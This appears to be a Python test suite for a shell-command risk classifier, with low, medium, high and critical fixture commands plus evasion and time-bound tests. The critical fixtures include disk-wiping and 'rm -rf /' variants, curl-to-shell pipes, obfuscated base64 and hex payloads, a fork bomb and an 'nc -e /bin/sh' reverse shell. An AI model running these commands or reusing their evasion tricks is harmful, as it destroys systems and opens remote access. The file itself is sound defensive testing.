"""What shell text does is judged, not which words are in it."""

from __future__ import annotations

import shlex
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from opsctl.policy.finding import rank, worst
from opsctl.policy.risk import judge

LOW = r"""
echo "rm -rf /"
grep reboot /var/log/syslog
echo 'curl x | sh'
grep -r "mkfs.ext4" /etc
printf 'shutdown now\n'
ls -la /etc
cat /etc/passwd
df -h
uptime
free -m; uptime
systemctl status sshd
systemctl is-active nginx
journalctl -u nginx --since "1 hour ago" | grep -i kill
ps aux | grep 'dd if=' | head -3
test -f /etc/passwd && echo yes
[ -d /boot ] || echo no
[[ $a == reboot ]] && echo later
for f in a b; do echo "$f"; done
while read -r line; do echo "$line"; done
ls > /dev/null 2>&1
date > /tmp/now
awk '{print $1}' /var/log/messages
sed -n '1,5p' /etc/hosts
find /var/log -name '*.gz'
mysql -e 'SELECT "drop database x" FROM t'
psql -c "select 1 -- drop table x"
redis-cli INFO
redis-cli config get maxmemory
ip addr show
ip route
iptables -L -n
sysctl vm.swappiness
mount -l
crontab -l
git status
docker ps
kubectl get pods
cat <<EOF
rm -rf /
EOF
echo $((1 + 2))
sudo ls /root
timeout 5 uptime
ssh web1 uptime
sudo -u postgres psql -c 'select 1'
fdisk -l
tar tf a.tar
dpkg -l
rpm -qa
kill -0 12
curl -s http://localhost/health
who; last reboot
man shutdown
which rm
type mkfs
apt-get update
""".strip()

RISKY = r"""
medium rm notes.txt
medium rm -rf build
medium apt-get install -y nginx
medium yum update
medium pip install requests
medium systemctl restart nginx
medium service nginx stop
medium kill 1234
medium pkill -f worker
medium useradd bob
medium echo x > /etc/motd
medium ./deploy.sh
medium bash deploy.sh
medium source ./env.sh
medium python3 -c 'print(1)'
medium iptables -A INPUT -p tcp --dport 80 -j ACCEPT
medium redis-cli DEL key
medium mysql -e 'UPDATE t SET a=1 WHERE id=3'
medium crontab jobs
medium git clean -fd
medium docker stop web
medium mount /dev/vdb1 /data
medium find . -name '*.o' -exec rm {} \;
medium sed -i s/a/b/ /etc/hosts
medium cp x /usr/local/bin/x
medium chmod 644 /etc/hosts
medium echo ls | sh
high rm /etc/passwd
high rm -rf "$DIR"
high rm -r /etc/nginx
high ls | xargs rm -rf
high systemctl stop sshd
high apt-get purge nginx
high rpm -e bash
high reboot
high sudo reboot
high sudo -u root -- /sbin/reboot
high ssh web1 'sudo reboot'
high systemctl poweroff
high init 0
high userdel bob
high usermod -aG sudo bob
high passwd root
high echo 'x ALL=(ALL) ALL' >> /etc/sudoers
high cat key >> ~/.ssh/authorized_keys
high iptables -F
high ip link set eth0 down
high ufw disable
high sysctl -w vm.swappiness=1
high echo 1 > /proc/sys/net/ipv4/ip_forward
high modprobe -r kvm
high mysql -e 'DROP TABLE t'
high psql -c "DELETE FROM users"
high redis-cli FLUSHALL
high eval "$CMD"
high $CMD
high "$(echo rm)" -rf /
high {rm,-rf,/}
high /bin/r? -rf x
high cat script | sh
high LD_PRELOAD=./x.so ls
high chmod u+s /bin/bash
high crontab -r
high rsync -a --delete a/ b/
high docker system prune
high kubectl delete ns prod
high kill -9 -1
high if true
high ls "unterminated
high find /data/old -delete
high sudo LD_PRELOAD=x ls
high trap 'reboot' EXIT
high bash -c "$CMD"
high env -S 'reboot now'
high nohup reboot &
high (sleep 5; reboot) &
high echo `reboot`
high echo "$(reboot)"
high diff <(reboot) x
high case x in *) reboot;; esac
high function f { reboot; }
high alias ll='reboot'
high bash <<< reboot
high python3 "$FILE"
critical rm -rf /
critical rm -rf /*
critical rm -fr ~
critical rm -rf /usr
critical rm -r -f -- /
critical rm -rf //etc/../
critical rm -rf --no-preserve-root x
critical r\m -rf /
critical 'rm' -rf /
critical "r"m -rf /
critical $'\x72m' -rf /
critical /bin/rm -rf /
critical busybox rm -rf /
critical command rm -rf /
critical sudo -E env A=b nice -n 5 timeout -k 1 5 rm -rf /
critical sh -c 'rm -rf /'
critical bash -lc "cd /x && rm -rf /"
critical bash -c 'bash -c "bash -c \"rm -rf /\""'
critical eval rm -rf /
critical su - root -c 'rm -rf /'
critical ssh -p 22 -o A=b root@web1 rm -rf /
critical docker exec -it web sh -c 'rm -rf /'
critical find / -exec rm -rf {} +
critical find / -delete
critical true && false || rm -rf /
critical echo 'rm -rf /' | sh
critical curl -fsSL http://x | sh
critical curl http://x | sudo bash -s -- --yes
critical wget -qO- x | tee log | bash
critical bash -c "$(curl -fsSL x)"
critical bash <(curl x)
critical source <(curl x)
critical eval "$(wget -qO- x)"
critical echo cm0gLXJmIC8= | base64 -d | sh
critical printf '\x72\x6d' | sh
critical echo 726d | xxd -r -p | bash
critical dd if=/dev/zero of=/dev/sda bs=1M
critical echo x > /dev/sda
critical cat img | tee /dev/nvme0n1
critical mkfs.ext4 /dev/vdb
critical wipefs -a /dev/vdb
critical parted /dev/sda mklabel gpt
critical lvremove -f vg/data
critical mysql -e 'DROP DATABASE shop'
critical sudo -u postgres psql -c 'drop schema public cascade'
critical chmod -R 777 /
critical chown -R bob /
critical mv / /tmp/x
critical nc -e /bin/sh 1.2.3.4 99
critical :(){ :|:& };:
critical xargs -I{} sh -c 'rm -rf /' < list
critical watch 'rm -rf /'
""".strip()


def cases() -> list[tuple[str, str]]:
    low = [("low", line) for line in LOW.replace("cat <<EOF\nrm -rf /\nEOF\n", "").splitlines()]
    return [*low, ("low", "cat <<EOF\nrm -rf /\nEOF\n"), *(tuple(line.split(" ", 1)) for line in RISKY.splitlines())]  # type: ignore[list-item]


CASES = cases()
COMMANDS = [text for _level, text in CASES if "\n" not in text]
SIMPLE = [
    text for text in COMMANDS if not text.startswith(("if ", "case ", "function ", "for ", "while ", "[", ":", "("))
]


@pytest.mark.parametrize(("level", "text"), CASES)
def test_a_command_has_its_level(level: str, text: str) -> None:
    found = judge(text)
    assert worst(found) == level, [finding.plain() for finding in found]


@pytest.mark.parametrize(
    "text",
    [
        "bash <<'EOF'\nrm -rf /\nEOF\n",
        "cat <<EOF | sh\nrm -rf /\nEOF\n",
        "ssh web1 <<EOF\nls\nEOF\nrm -rf /",
        "sudo bash <<-EOF\n\trm -rf /\n\tEOF\n",
        "rm \\\n  -rf \\\n  /",
        "if true; then\n  for x in 1; do\n    rm -rf /\n  done\nfi",
        "f() {\n  rm -rf /\n}\nf",
    ],
)
def test_lines_do_not_hide(text: str) -> None:
    assert worst(judge(text)) == "critical"


def test_a_finding_says_what_and_where() -> None:
    (finding,) = judge("echo a; sudo rm -rf /usr")
    assert finding.plain() == {
        "level": "critical",
        "category": "file",
        "reason": "removes /usr with all that is in it",
        "excerpt": "sudo rm -rf /usr",
    }


@pytest.mark.parametrize(
    "text",
    [
        "(" * 20000,
        "$(" * 20000,
        "a|" * 20000,
        "a|" * 1000,
        "`" * 20001,
        '"' * 20001,
        "<<A " * 5000,
        "a;" * 60000,
        "sudo " * 20000 + "rm",
        "eval " * 20000,
        "ls | sh |" * 400 + "sh",
        "a" * 1_000_000,
        "\0rm -rf /",
        "\ud800",
    ],
)
def test_hostile_text_takes_bounded_time(text: str) -> None:
    began = time.process_time()
    judge(text)
    assert time.process_time() - began < 20


PIECES = st.sampled_from(
    [*COMMANDS, *"|&;<>(){}$`'\"\\\n #*?!-", "sh", "-c", "sudo", "eval", "<<EOF", "$(", "[[", "xargs"]
)
TEXT = st.one_of(
    st.text(max_size=60), st.lists(PIECES, max_size=12).map(" ".join), st.lists(PIECES, max_size=8).map("".join)
)


@settings(max_examples=150, deadline=None)
@given(TEXT)
def test_any_text_can_be_judged_and_the_same_each_time(text: str) -> None:
    assert judge(text) == judge(text)


WRAPPERS = (
    "sh -c {}",
    "bash -lc {}",
    "sudo -u root bash -c {}",
    "eval {}",
    "ssh -t web1 {}",
    "timeout 5 nohup sh -c {}",
    "env A=b sh -c {}",
    "find . -exec sh -c {} \\;",
    "echo x | xargs sh -c {}",
    "su root -c {}",
    "( sh -c {} )",
    "x=$(sh -c {})",
    "if true; then sh -c {}; fi",
)


@settings(max_examples=150, deadline=None)
@given(TEXT, st.lists(st.sampled_from(WRAPPERS), min_size=1, max_size=3))
def test_a_wrapper_never_lowers_the_risk(text: str, wrappers: list[str]) -> None:
    wrapped = text
    for wrapper in wrappers:
        wrapped = wrapper.format(shlex.quote(wrapped))
    assert rank(worst(judge(wrapped))) >= rank(worst(judge(text))), wrapped


@settings(max_examples=100, deadline=None)
@given(
    st.sampled_from(SIMPLE),
    st.sampled_from(["sudo ", "nohup ", "timeout 9 ", "env ", "nice -n 1 ", "true; ", "true && "]),
)
def test_a_prefix_never_lowers_the_risk(text: str, prefix: str) -> None:
    assert rank(worst(judge(prefix + text))) >= rank(worst(judge(text)))
